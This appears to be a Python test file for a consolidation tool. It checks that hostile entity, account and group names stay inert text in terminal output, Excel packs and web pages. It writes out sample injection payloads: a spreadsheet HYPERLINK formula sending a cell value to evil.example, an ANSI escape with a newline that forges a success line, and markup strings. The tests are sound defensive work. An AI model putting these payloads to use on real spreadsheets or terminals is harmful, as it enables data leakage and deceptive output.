"""Workspace text can never become a formula, an escape sequence or markup in any output (issue 13).

A copy of case a-foreign-sub-cta is given hostile names: an entity named like
a formula, an account named with an ANSI escape and a newline that forges a
success line, a group named with rich markup and an emoji code. Every output
(terminal tables, problem messages, Excel packs from the CLI and the web app,
web pages) must show them as inert text.
"""

from __future__ import annotations

import io
import re
import shutil
from pathlib import Path

import openpyxl
import pytest
import yaml
from typer.testing import CliRunner

from renketsu.cli.main import app
from renketsu.reports.text import cell, defuse, put, visible

ROOT = Path(__file__).resolve().parents[2]
CASE = ROOT / "tests" / "cases" / "translation" / "a-foreign-sub-cta" / "workspace"
PERIOD = "2021-12-31"

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ANSI_NAME = "Other \x1b[31massets\x1b[0m\nworkspace: ok - 0 problems"
MARKUP_GROUP = "13:x:00 [bold red]loud[/bold red]"
PLUS_NAME = "+1-2"
AT_NAME = "@SUM(A1:A9)"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    shutil.copytree(CASE, ws)
    g = yaml.safe_load((ws / "group.yaml").read_text())
    g["group"] = MARKUP_GROUP
    for e in g["entities"]:
        if e["id"] == "S":
            e["name"] = FORMULA_NAME
        if e["id"] == "P":
            e["name"] = AT_NAME
    for a in g["accounts"]:
        if str(a["id"]) == "1400":
            a["name"] = ANSI_NAME
        if str(a["id"]) == "2200":
            a["name"] = PLUS_NAME
    (ws / "group.yaml").write_text(yaml.safe_dump(g, allow_unicode=True, sort_keys=False))
    return ws


def _run(*args: str, width: int = 100):
    return CliRunner().invoke(app, list(args), env={"COLUMNS": str(width), "TERM": "xterm-256color"})


def test_terminal_shows_hostile_text_inert(hostile: Path):
    res = _run("consolidate", str(hostile), "--period", PERIOD, width=160)
    out = res.stdout
    assert res.exit_code == 0, out
    assert "\x1b" not in out                                  # no escape sequence reaches the terminal
    assert "\\x1b[31massets" in out                           # ... it is shown, visibly escaped
    assert "\nworkspace: ok - 0 problems" not in out          # the newline cannot forge a line
    assert "\\nworkspace: ok - 0 problems" in out
    assert "13:x:00 [bold red]loud[/bold red]" in out         # no markup, no emoji: shown as written
    assert "❌" not in out


def test_problem_messages_are_escaped(tmp_path: Path):
    # a command's own problem message carrying workspace-like text
    res = _run("consolidate", str(tmp_path / "no\x1b[31mwhere:x:"), "--period", PERIOD)
    assert res.exit_code == 2
    text = res.stdout + (res.stderr if res.stderr_bytes is not None else "")
    assert "\x1b[31m" not in text and "❌" not in text


def test_silence_option_problem_is_escaped(hostile: Path):
    res = _run("consolidate", str(hostile), "--period", PERIOD, "--silence", "bogus\nworkspace: ok")
    assert res.exit_code == 2
    text = res.stdout + (res.stderr if res.stderr_bytes is not None else "")
    assert "\nworkspace: ok" not in text and "cli.silence" not in text and "--silence" in text


def _formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


#: The only formulas the engine writes: sums, references to its own sheets' cells, signed cell sums.
ENGINE_FORMULA = re.compile(r"=(SUM\([A-Z0-9:,]+\)|-?(Figures|Worksheet)!\$[A-Z]+\$\d+|-?[A-Z]+\d+([+-][A-Z]+\d+)*|0)")


def _engine_only(formulas: list[str]) -> bool:
    return all(ENGINE_FORMULA.fullmatch(f.split("=", 1)[1]) for f in formulas)


def _strings(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    return {str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}


def test_cli_excel_pack_never_writes_a_workspace_formula(hostile: Path, tmp_path: Path):
    out = tmp_path / "pack.xlsx"
    res = _run("consolidate", str(hostile), "--period", PERIOD, "--format", "xlsx", "-o", str(out))
    assert res.exit_code == 0, res.stdout
    formulas = _formula_cells(out)
    assert formulas, "the engine's own formulas are kept"
    assert _engine_only(formulas), formulas
    strings = _strings(out)
    assert any(FORMULA_NAME in s for s in strings) or any("S" == s for s in strings)
    assert PLUS_NAME in strings and visible(ANSI_NAME) in strings
    # the quote prefix keeps a formula-like name text even when a user edits the cell
    wb = openpyxl.load_workbook(out)
    prefixed = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")) and c.data_type == "s"]
    assert prefixed and all(c.quotePrefix for c in prefixed)


def test_web_download_and_pages_are_inert(hostile: Path, tmp_path: Path):
    from fastapi.testclient import TestClient

    from renketsu.web import create_app

    client = TestClient(create_app(hostile, None))
    r = client.get("/download/consolidation.xlsx", params={"period": PERIOD})
    assert r.status_code == 200
    path = tmp_path / "web.xlsx"
    path.write_bytes(r.content)
    assert _engine_only(_formula_cells(path))
    assert PLUS_NAME in _strings(path)
    for url in ("/", f"/consolidate?period={PERIOD}", f"/line?period={PERIOD}&account=1400",
                f"/matching?period={PERIOD}", "/structure"):
        page = client.get(url)
        assert page.status_code == 200, url
        assert "<bold" not in page.text and "\x1b" not in page.text.replace("\\x1b", "")
        assert "[bold red]loud[/bold red]" in page.text     # markup shown as text
        assert "&lt;" not in MARKUP_GROUP


def test_cell_helpers():
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for i, v in enumerate(["=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok", 5, None], start=1):
        put(ws, i, 1, v)
    ws.cell(row=20, column=1, value="=2+2")           # written past put(): defuse turns it into text
    assert defuse(wb) == 1
    assert ws["A20"].data_type == "s" and ws["A20"].quotePrefix
    assert [ws.cell(row=i, column=1).data_type for i in range(1, 8)] == ["s"] * 7
    assert all(ws.cell(row=i, column=1).quotePrefix for i in range(1, 7))
    assert ws["A8"].value == 5 and ws["A8"].data_type == "n"
    assert cell("a\x00b") == "a\\x00b"
    buf = io.BytesIO()
    wb.save(buf)                                       # control characters would make openpyxl raise


def test_visible():
    assert visible("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert visible("x\ny\r\tz\x7f\u202e") == "x\\ny\\r\\tz\\x7f\\u202e"
    assert visible("日本語 ok") == "日本語 ok"
